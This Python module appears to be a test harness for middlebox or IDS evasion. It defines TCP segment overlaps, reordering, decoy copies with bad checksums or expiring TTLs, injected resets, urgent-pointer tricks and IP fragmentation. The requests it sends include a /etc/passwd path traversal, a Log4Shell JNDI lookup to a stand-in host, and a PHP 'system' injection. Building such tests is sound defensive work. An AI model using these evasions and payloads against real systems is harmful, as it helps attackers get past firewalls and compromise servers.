"""Ways to bring a request to its server, honest and not, and the requests.

A delivery is called with a Link, the bytes that are to arrive, a counterpart of the same length, and the range [a, b) in which
the two differ. ``reaches``: whether a Linux server without a firewall before it reads those bytes and not the counterpart.
``clean``: whether a harmless request that comes this way has to be served.
"""

import random
from dataclasses import dataclass, field

from hellos import client_hello, extension, listed, record, sni
from wire import ACK, DIES, FIN, PSH, RST, SYN, URG

AWAY = 1 << 24


def steps(link, data, size, order=None):
    places = list(range(0, len(data), size))
    for at in order(places) if order else places:
        link.send(at, data[at:at + size])


def shuffled(places):
    random.Random(3).shuffle(places)
    return places


def plain(link, data, *_):
    link.send(0, data)


def bytes_one_by_one(link, data, *_):
    steps(link, data, 1)


def two_halves(link, data, _, a, b):
    middle = (a + b) // 2
    link.send(0, data[:middle])
    link.send(middle, data[middle:])


def second_half_first(link, data, _, a, b):
    middle = (a + b) // 2
    link.send(middle, data[middle:])
    link.send(0, data[:middle])


def backwards(link, data, *_):
    steps(link, data, 7, reversed)


def out_of_order(link, data, *_):
    steps(link, data, 5, shuffled)


def everything_twice(link, data, *_):
    steps(link, data, 9, lambda places: [at for at in places for _ in range(2)])


def segments(link, data, *_):
    steps(link, data, 1400)


def segments_backwards(link, data, *_):
    steps(link, data, 1400, reversed)


def overlapped_equal(link, data, *_):
    for at in range(0, len(data), 5):
        link.send(at, data[at:at + 11])


def held_then_other(link, data, other, a, b):
    """Behind a gap: the counterpart, then the data; the gap last."""
    link.send(a, other[a:b])
    link.send(a, data[a:b])
    link.send(b, data[b:])
    link.send(0, data[:a])


def other_then_held(link, data, other, a, b):
    """Behind a gap: the data, then the counterpart; the gap last."""
    link.send(a, data[a:b])
    link.send(a, other[a:b])
    link.send(b, data[b:])
    link.send(0, data[:a])


def covered_by_a_larger_one(link, data, other, a, b):
    """Behind a gap: a piece of the counterpart, then data on both sides of it (Linux forgets the piece)."""
    link.send(a, other[a:b])
    link.send(a - 2, data[a - 2:b + 2])
    link.send(b + 2, data[b + 2:])
    link.send(0, data[:a - 2])


def overlapped_from_the_left(link, data, other, a, b):
    """In order, then a segment that brings what has been taken again, otherwise, and goes on."""
    middle = (a + b) // 2
    link.send(0, data[:middle])
    link.wire.until(lambda: link.acked >= link.base + middle, 0.3)
    link.send(0, other[:middle] + data[middle:])


def sent_again_otherwise(link, data, other, a, b):
    """The first half, acknowledged; the counterpart of it, for nobody; the second half."""
    middle = (a + b) // 2
    link.send(0, data[:middle])
    link.wire.until(lambda: link.acked >= link.base + middle, 0.3)
    link.send(0, other[:middle])
    link.send(middle, data[middle:])


def copy_that_dies_on_the_way(link, data, other, *_):
    link.send(0, other, ttl=DIES)
    link.send(0, data)


def copy_with_a_wrong_checksum(link, data, other, *_):
    link.send(0, other, wrong=True)
    link.send(0, data)


def copy_with_a_wrong_acknowledgement(link, data, other, *_):
    link.send(0, other, ack=link.peer + AWAY)
    link.send(0, data)


def copy_without_acknowledgement(link, data, other, *_):
    link.send(0, other, PSH)
    link.send(0, data)


def copy_with_an_old_stamp(link, data, other, *_):
    """What a receiver takes for a segment of long ago (RFC 7323, 5.3)."""
    link.send(0, other, age=1000)
    link.send(0, data)


def piece_that_dies_on_the_way(link, data, other, a, b):
    link.send(0, data[:a])
    link.send(a, other[a:b], ttl=DIES)
    link.send(a, data[a:b])
    link.send(b, data[b:])


def reset_outside_the_window(link, data, *_):
    link.send(AWAY, b"", RST)
    link.send(0, data)


def reset_inside_the_window(link, data, *_):
    link.send(100, b"", RST)
    link.send(0, data)


def reset_that_dies_on_the_way(link, data, *_):
    link.send(0, b"", RST, ttl=DIES)
    link.send(0, data)


def reset_with_a_wrong_checksum(link, data, *_):
    link.send(0, b"", RST | ACK, wrong=True)
    link.send(0, data)


def end_that_dies_on_the_way(link, data, *_):
    link.send(0, b"", FIN | ACK, ttl=DIES)
    link.send(0, data)


def end_beyond_the_data(link, data, *_):
    link.send(len(data) + 40, b"", FIN | ACK)
    link.send(0, data)


def end_with_the_data(link, data, *_):
    link.send(0, data, FIN | PSH | ACK)


def opening_in_the_middle(link, data, _, a, b):
    link.send(0, data[:a])
    link.send(a + 30, b"", SYN)
    link.send(a, data[a:])


def urgent_byte_inside(link, data, _, a, b):
    """A byte that Linux takes out of the stream, in the middle of what is looked for."""
    middle = (a + b) // 2
    link.send(0, data[:middle] + b"!" + data[middle:], PSH | ACK | URG, urgent=middle + 1)


def urgent_pointer_before(link, data, _, a, b):
    """The same with the pointer on a bare acknowledgement, and no sign of it on the data."""
    middle = (a + b) // 2
    link.send(0, b"", ACK | URG, urgent=middle + 1)
    link.send(0, data[:middle] + b"!" + data[middle:])


def ip_fragments(link, data, *_):
    link.send(0, data, size=48)


def ip_fragments_backwards(link, data, *_):
    link.send(0, data, size=48, backwards=True)


def ip_fragments_of_halves(link, data, _, a, b):
    middle = (a + b) // 2
    link.send(middle, data[middle:], size=32)
    link.send(0, data[:middle], size=32, backwards=True)


@dataclass(frozen=True)
class Delivery:
    """``isn``: the client's first sequence number; ``early``: the counterpart's beginning rides on the SYN; ``stamp``: what the
    time stamp of its segments says; ``web``: whether it goes to the web server too (nginx waits for ever at an urgent byte).
    """

    send: object
    reaches: bool = True
    clean: bool = True
    isn: int = 1_000_000
    early: bool = False
    stamp: int | None = None
    web: bool = True


def _named(*rows):
    return {row.send.__name__: row for row in rows}


DELIVERIES = _named(
    *map(Delivery, (plain, bytes_one_by_one, two_halves, second_half_first, backwards, out_of_order, everything_twice,
                    overlapped_equal, other_then_held, covered_by_a_larger_one, overlapped_from_the_left,
                    sent_again_otherwise, copy_that_dies_on_the_way, copy_with_a_wrong_checksum,
                    copy_with_a_wrong_acknowledgement, copy_without_acknowledgement, piece_that_dies_on_the_way,
                    reset_outside_the_window, reset_inside_the_window, end_beyond_the_data, end_with_the_data,
                    opening_in_the_middle, ip_fragments, ip_fragments_backwards,
                    ip_fragments_of_halves)),
    Delivery(urgent_byte_inside, clean=False, web=False),
    Delivery(urgent_pointer_before, clean=False, web=False),
    Delivery(copy_with_an_old_stamp, stamp=5_000_000),
    Delivery(held_then_other, reaches=False),
    Delivery(reset_that_dies_on_the_way, clean=False),
    Delivery(reset_with_a_wrong_checksum, clean=False),
    Delivery(end_that_dies_on_the_way, clean=False),
) | {
    "numbers_that_wrap": Delivery(bytes_one_by_one, isn=(1 << 32) - 60),
    "numbers_that_wrap_backwards": Delivery(backwards, isn=(1 << 32) - 60),
    "data_on_the_opening": Delivery(plain, early=True),
}


@dataclass(frozen=True)
class Request:
    """``lead`` is sent and answered before; ``evil`` and ``harmless`` have one length; ``mark`` is what must not arrive.

    ``answers``: how many responses the harmless one gets in all, or 0 where the answer is a TLS server's hello.
    """

    mark: bytes
    evil: bytes
    harmless: bytes
    lead: bytes = b""
    answers: int = 1
    range: tuple = field(init=False)

    def __post_init__(self):
        places = [at for at, (one, two) in enumerate(zip(self.evil, self.harmless, strict=True)) if one != two]
        object.__setattr__(self, "range", (places[0], places[-1] + 1))


def _get(target, *lines):
    return "\r\n".join([f"GET {target} HTTP/1.1", "Host: www.example.org", *lines, "", ""]).encode()


def _post(body):
    return (f"POST /form HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body


def _chunked(*chunks):
    head = b"POST /form HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head + b"".join(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n" for chunk in (*chunks, b""))


def _hello(name):
    return record(client_hello(sni(name.encode()) + extension(10, listed(b"\0\x1d\0\x17", 2)) + extension(11, b"\1\0")
                               + extension(13, listed(b"\4\3\5\3\4\1", 2)), ciphers=(0xc02b, 0xc02c, 0xc02f)))


PASSWORDS, HARMLESS = _get("/show?f=/etc/passwd"), _get("/show?f=/doc/faq-12")
REQUESTS = {
    "address": Request(b"/etc/passwd", PASSWORDS, HARMLESS),
    "header": Request(b"${jndi:ldap://", _get("/", "X-Api-Version: ${jndi:ldap://x/a}"),
                      _get("/", "X-Api-Version: 2.0-beta-17-x86_64")),
    "body": Request(b"<?php", _post(b"text=<?php system(1);"), _post(b"text=how to cook rice")),
    "chunked": Request(b"<?php", _chunked(b"text=<?p", b"hp system(1);"), _chunked(b"text=how", b" to cook rice")),
    "second": Request(b"/etc/passwd", PASSWORDS, HARMLESS, lead=_get("/"), answers=2),
    "pipelined": Request(b"/etc/passwd", _get("/") + PASSWORDS, _get("/") + HARMLESS, answers=2),
    "hello": Request(b"www.blocked.example", _hello("www.blocked.example"), _hello("www.allowed.example"), answers=0),
}

_FIELDS = tuple(f"X-Field-{n}: {'value ' * 30}" for n in range(80))          # 15 KB
FAR = {
    "sixtieth_request": Request(b"/etc/passwd", _get("/") * 59 + PASSWORDS, _get("/") * 59 + HARMLESS, answers=60),
    "eightieth_field": Request(b"${jndi:ldap://", _get("/", *_FIELDS, "X-Api-Version: ${jndi:ldap://x/a}"),
                               _get("/", *_FIELDS, "X-Api-Version: 2.0-beta-17-x86_64")),
    "far_in_a_body": Request(b"<?php", _post(b"x" * 20000 + b"<?php system(1);"), _post(b"x" * 20000 + b"how to cook rice")),
    "many_chunks": Request(b"<?php", _chunked(*[b"x"] * 3000, *(bytes([c]) for c in b"<?php system(1);")),
                           _chunked(*[b"x"] * 3000, *(bytes([c]) for c in b"how to cook rice"))),
    "after_a_long_body": Request(b"/etc/passwd", _post(b"x" * 30000) + PASSWORDS, _post(b"x" * 30000) + HARMLESS, answers=2),
}
